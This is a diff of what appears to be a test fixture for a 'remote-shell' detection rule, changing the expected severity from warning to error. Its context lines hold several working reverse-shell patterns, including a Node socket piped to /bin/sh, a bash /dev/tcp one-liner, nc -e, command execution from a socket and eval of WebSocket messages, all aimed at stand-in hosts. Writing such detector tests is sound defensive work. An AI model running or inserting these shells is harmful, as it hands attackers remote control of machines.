@@ -6,11 +6,11 @@ const shell = spawn('/bin/sh', ['-i']);
 const client = new net.Socket();
 client.connect(4444, '192.0.2.9', () => {
   client.pipe(shell.stdin);
-  //<^^^^^^^^^^^^^^^^^^^^^ remote-shell: warning
+  //<^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
   shell.stdout.pipe(client);
-  //<^^^^^^^^^^^^^^^^^^^^^^ remote-shell: warning
+  //<^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
   shell.stderr.pipe(client);
-  //<^^^^^^^^^^^^^^^^^^^^^^ remote-shell: warning
+  //<^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
 });
 
 exec('bash -i >& /dev/tcp/192.0.2.9/4444 0>&1');
@@ -22,16 +22,16 @@ spawn('nc', ['192.0.2.9', '4444', '-e', '/bin/sh']);
 const orders = net.connect(4444, '192.0.2.9');
 orders.on('data', (order) => {
   exec(order.toString(), (_error, output) => {
-  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: warning
+  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
     orders.write(output);
-//  ^^^^^^^^^^^^^^^^^^^^ remote-shell: warning
+//  ^^^^^^^^^^^^^^^^^^^^ remote-shell: error
   });
 });
 
 const channel = new WebSocket('wss://c2.example.invalid/');
 channel.on('message', (text: string) => {
   eval(text.toString());
-  //<^^^^^^^^^^^^^^^^^^ remote-shell: warning
+  //<^^^^^^^^^^^^^^^^^^ remote-shell: error
 });
 
 export function hand(): void {
